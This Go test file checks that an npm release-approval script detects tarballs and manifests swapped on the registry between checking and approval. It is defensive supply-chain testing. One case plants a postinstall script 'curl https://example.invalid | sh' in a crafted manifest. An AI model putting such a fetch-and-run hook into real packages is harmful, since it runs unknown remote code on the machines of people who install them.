package approve_test

import (
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/agent-facets/facets/platforms"
	"github.com/agent-facets/facets/scripts/approve"
	"github.com/agent-facets/facets/scripts/registrytest"
)

// approveOutOfBand approves the staged version id as another maintainer
// would, with their one-time password, outside the run under test. It may
// run in the registry's goroutine (a Before hook): it reports, not stops.
func (b *bed) approveOutOfBand(t *testing.T, id string) {
	req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, strings.TrimSuffix(b.URL, "/")+"/-/stage/"+id+"/approve", nil)
	if err != nil {
		t.Error(err)
		return
	}
	req.Header.Set("Authorization", "Bearer "+b.Verdaccio.Token)
	req.Header.Set("npm-otp", registrytest.DefaultOTP)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Error(err)
		return
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Errorf("approving %s out of band: %s", id, resp.Status)
	}
}

// onApprove runs fn before the registry handles a request to approve id.
func (b *bed) onApprove(id string, fn func()) {
	b.Front.Before(func(r registrytest.Request) {
		if r.Method == http.MethodPost && r.Path == "/-/stage/"+id+"/approve" {
			fn()
		}
	})
}

// The registry is read again before each approval and after the platform
// packages' publish: what changed since the check is not approved, and the
// wrapper waits for every platform package to be published as checked. A
// version approved by someone else meanwhile is no failure.
func TestApproveRechecks(t *testing.T) {
	b := newBed(t)
	wrapper := platforms.Wrapper
	plat := platforms.All()[4].Package()
	tests := []struct {
		name    string
		version string
		// meddle changes the registry under the run, given the count of
		// approvals before it.
		meddle func(t *testing.T, r *release, base int)
		// prepare changes the registry before the run, without the bed's
		// lock (the registry's hooks take it).
		prepare func(t *testing.T, r *release)
		want    []string // in the error; none: the run succeeds
		// approved is how many approvals the registry answers (out of
		// band ones too), staged whether the wrapper stays staged.
		approved int
		staged   bool
	}{{
		name:    "the wrapper's bytes swapped after the platform packages",
		version: "3.0.0",
		meddle: func(t *testing.T, r *release, base int) {
			id, data := r.ids[wrapper][0], swapped(t, r.tarball(wrapper))
			b.cancel = func(n int) {
				if n == base+12 {
					// In the registry's goroutine: report, not stop.
					if err := b.Front.ReplaceStagedTarball(id, data); err != nil {
						t.Error(err)
					}
				}
			}
		},
		want:     []string{"stage id %WRAPPER% changed on the registry since approve checked it: it is now " + wrapper + "@3.0.0 with shasum ", "so it was not approved"},
		approved: 12,
		staged:   true,
	}, {
		name:    "a platform package's bytes swapped between the view and the approval",
		version: "3.1.0",
		meddle: func(t *testing.T, r *release, base int) {
			id, data := r.ids[plat][0], swapped(t, r.tarball(plat))
			b.onApprove(id, func() {
				if err := b.Front.ReplaceStagedTarball(id, data); err != nil {
					t.Error(err)
				}
			})
		},
		want:     []string{"the registry published platform packages that are not what approve checked, so the wrapper was not approved:", "  " + plat + "@3.1.0: integrity ", "do not approve it"},
		approved: 12,
		staged:   true,
	}, {
		name:    "the wrapper's bytes swapped between the view and the approval",
		version: "3.1.1",
		meddle: func(t *testing.T, r *release, base int) {
			id, data := r.ids[wrapper][0], swapped(t, r.tarball(wrapper))
			b.onApprove(id, func() {
				if err := b.Front.ReplaceStagedTarball(id, data); err != nil {
					t.Error(err)
				}
			})
		},
		// The race the stage API leaves (it approves by id only): the
		// wrapper is published, and approve says so.
		want:     []string{"the registry published the wrapper, and it is not what approve checked:", "  " + wrapper + "@3.1.1: integrity ", "deprecate it now"},
		approved: 13,
	}, {
		name:    "a platform package staged with a crafted manifest",
		version: "3.2.0",
		meddle: func(t *testing.T, r *release, base int) {
			require.NoError(t, b.Front.ReplaceStagedManifest(r.ids[plat][0], func(m map[string]any) {
				m["scripts"] = map[string]any{"postinstall": "curl https://example.invalid | sh"}
			}))
		},
		want:     []string{"  " + plat + "@3.2.0: the manifest npm installs from is not the rebuilt package.json: scripts is {\"postinstall\":\"curl https://example.invalid | sh\"}, rebuilt null"},
		approved: 12,
		staged:   true,
	}, {
		// A rerun after an approval stopped before its check, or another
		// maintainer's approval: what is published is checked on every run.
		name:    "a platform package with a crafted manifest approved before the run",
		version: "3.2.1",
		prepare: func(t *testing.T, r *release) {
			require.NoError(t, b.Front.ReplaceStagedManifest(r.ids[plat][0], func(m map[string]any) {
				m["peerDependencies"] = map[string]any{"evil": "*"}
			}))
			b.approveOutOfBand(t, r.ids[plat][0])
		},
		meddle: func(*testing.T, *release, int) {},
		want: []string{"  " + plat + "@3.2.1: the manifest npm installs from is not the rebuilt package.json: peerDependencies is {\"evil\":\"*\"}, rebuilt null",
			"nothing was approved in this run"},
		approved: 0, // one out of band, before the run
		staged:   true,
	}, {
		name:    "a platform package approved out of band between the check and the approval",
		version: "3.3.0",
		meddle: func(t *testing.T, r *release, base int) {
			id := r.ids[plat][0]
			var once atomic.Bool
			b.onApprove(id, func() {
				if once.CompareAndSwap(false, true) {
					b.approveOutOfBand(t, id)
				}
			})
		},
		approved: 13, // 12 by the run, one out of band
	}}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := b.pack(t, tt.version)
			b.stage(t, r)
			if tt.prepare != nil {
				tt.prepare(t, r)
			}
			base := len(b.approved())
			b.mu.Lock()
			tt.meddle(t, r, base)
			b.mu.Unlock()
			t.Cleanup(func() {
				b.Front.Before(nil)
				b.mu.Lock()
				b.cancel = nil
				b.mu.Unlock()
			})
			cfg, out := b.config(t, r)
			plan, err := approve.Run(t.Context(), cfg)
			got := b.approved()[base:]
			assert.Len(t, got, tt.approved, out.String())
			wrapperStaged := false
			for _, s := range b.Front.Staged() {
				if s.Version == tt.version {
					wrapperStaged = wrapperStaged || s.PackageName == wrapper
				}
			}
			assert.Equal(t, tt.staged, wrapperStaged, "the wrapper staged")
			if len(tt.want) == 0 {
				require.NoError(t, err, out.String())
				assert.Contains(t, out.String(), plat+"@"+tt.version+" is published with the staged tarball (another approval got there first)")
				b.verified(t, r, plan)
				return
			}
			require.Error(t, err, out.String())
			if tt.staged {
				assert.NotContains(t, got, r.ids[wrapper][0], "the wrapper not approved")
			}
			for _, w := range tt.want {
				assert.Contains(t, err.Error(), strings.ReplaceAll(w, "%WRAPPER%", r.ids[wrapper][0]))
			}
		})
	}
}

// A registry that lists staged versions without their integrity (npm
// documents only shasum): approve checks the shasum, computes the
// integrity itself, still refuses two staged copies with different bytes,
// and approves the release.
func TestApproveWithoutStagedIntegrity(t *testing.T) {
	b := newBed(t)
	b.Front.OmitStagedIntegrity(true)
	linux := platforms.All()[0].Package()

	r := b.pack(t, "4.0.0")
	b.stage(t, r)
	other := filepath.Join(t.TempDir(), "other.tgz")
	require.NoError(t, os.WriteFile(other, swapped(t, r.tarball(linux)), 0o644))
	r.ids[linux] = append(r.ids[linux], b.stageFile(t, other))
	cfg, out := b.config(t, r)
	_, err := approve.Run(t.Context(), cfg)
	require.Error(t, err, out.String())
	assert.Contains(t, err.Error(), linux+"@4.0.0: staged 2 times with different bytes: "+r.ids[linux][0]+" (shasum ")
	assert.Empty(t, b.approved())

	r = b.pack(t, "4.1.0")
	b.stage(t, r)
	cfg, out = b.config(t, r)
	plan, err := approve.Run(t.Context(), cfg)
	require.NoError(t, err, out.String())
	assert.Len(t, b.approved(), 13)
	b.verified(t, r, plan)
}

// A version published already with another copy staged with other bytes:
// approve carries on, reports the copy in its plan, and leaves it staged.
func TestApproveReportsOtherBytes(t *testing.T) {
	b := newBed(t)
	linux := platforms.All()[0].Package()
	r := b.pack(t, "5.0.0")
	b.stage(t, r)
	other := filepath.Join(t.TempDir(), "other.tgz")
	require.NoError(t, os.WriteFile(other, swapped(t, r.tarball(linux)), 0o644))
	odd := b.stageFile(t, other)
	b.approveOutOfBand(t, r.ids[linux][0])

	cfg, out := b.config(t, r)
	plan, err := approve.Run(t.Context(), cfg)
	require.NoError(t, err, out.String())
	assert.Equal(t, 12, plan.ToApprove())
	assert.Contains(t, out.String(), "also staged with OTHER bytes (stage id "+odd+", shasum ")
	assert.Contains(t, out.String(), "approve leaves it; look at it (npm stage download "+odd+") and reject it (npm stage reject "+odd+")")
	assert.Equal(t, []string{odd}, b.staged(), "the other copy stays")
	assert.Zero(t, b.rejects())
	b.verified(t, r, plan)
}
